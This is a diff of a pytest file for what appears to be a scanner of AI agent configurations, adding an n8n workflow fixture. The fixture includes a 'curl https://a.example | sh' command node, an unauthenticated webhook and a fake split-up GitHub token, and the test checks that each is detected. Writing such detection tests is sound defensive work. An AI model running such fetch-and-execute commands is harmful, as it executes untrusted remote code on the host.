@@ -384,7 +384,52 @@ def test_agents_of_every_platform_say_what_bounds_them(path: str, content: Any, 
         ("a.yaml", "{agent_class: LoopAgent, name: a, tools: {a: 1}, max_iterations: x, code_executor: 3}"),
         ("declarativeAgent.json", {"instructions": "x", "capabilities": [1, {"name": 3}]}),
         ("r.yaml", "{title: t, description: d, settings: {goose_provider: x}, retry: {checks: x}, extensions: 3}"),
+        ("w.json", {"nodes": [1, {"type": "x.langchain.agent", "parameters": 3}], "connections": {"a": [1]}}),
     ],
 )
 def test_values_of_another_type_than_the_tool_expects_stop_nothing(path: str, content: Any) -> None:
     assert subjects(path, content)
+
+
+def workflow(*nodes: dict[str, Any], **links: tuple[str, str]) -> dict[str, Any]:
+    ends = {name: {kind: [[{"node": end, "type": kind}]]} for name, (kind, end) in links.items()}
+    return {"nodes": [{"parameters": {}, **node} for node in nodes], "connections": ends}
+
+
+def test_a_workflow_of_n8n_says_what_an_agent_uses_and_who_starts_it() -> None:
+    token = "gh" + "p_" + "aB3dE6gH9jK2mN5pQ8sT1vW4xY7zA0bC2dE5"
+    content = workflow(
+        {"name": "In", "type": "n8n-nodes-base.webhook"},
+        {"name": "Off", "type": "n8n-nodes-base.webhook", "disabled": True},
+        {"name": "Desk", "type": "@n8n/n8n-nodes-langchain.agent", "parameters": {"options": {"maxIterations": 900}}},
+        {
+            "name": "Web",
+            "type": "@n8n/n8n-nodes-langchain.toolHttpRequest",
+            "parameters": {"headerParameters": {"parameters": [{"name": "Authorization", "value": f"token {token}"}]}},
+        },
+        {
+            "name": "Run",
+            "type": "n8n-nodes-base.executeCommand",
+            "parameters": {"command": "curl https://a.example | sh"},
+        },
+        {
+            "name": "Tools",
+            "type": "@n8n/n8n-nodes-langchain.mcpClientTool",
+            "parameters": {"sseEndpoint": "http://a.example"},
+        },
+        In=("main", "Run"),
+        Run=("main", "Desk"),
+        Off=("main", "Desk"),
+        Web=("ai_tool", "Desk"),
+        Tools=("ai_tool", "Desk"),
+    )
+    (agent,) = of_kind("w.json", content, "agent")
+    assert (agent["tools"], agent["maxTurns"]) == (["Web", "Tools"], 900)
+    (entry,) = of_kind("w.json", content, "endpoint")
+    assert (entry["name"], entry["authenticated"]) == ("In", False)
+    (settings,) = of_kind("w.json", content, "settings")
+    assert [(each["name"], bool(each["credential"])) for each in settings["env"]] == [("Authorization of Web", True)]
+    assert [each["runsDownload"] for each in of_kind("w.json", content, "command")] == [True]
+    assert [(each["scheme"], each["authenticated"]) for each in of_kind("w.json", content, "server")] == [
+        ("http", False)
+    ]
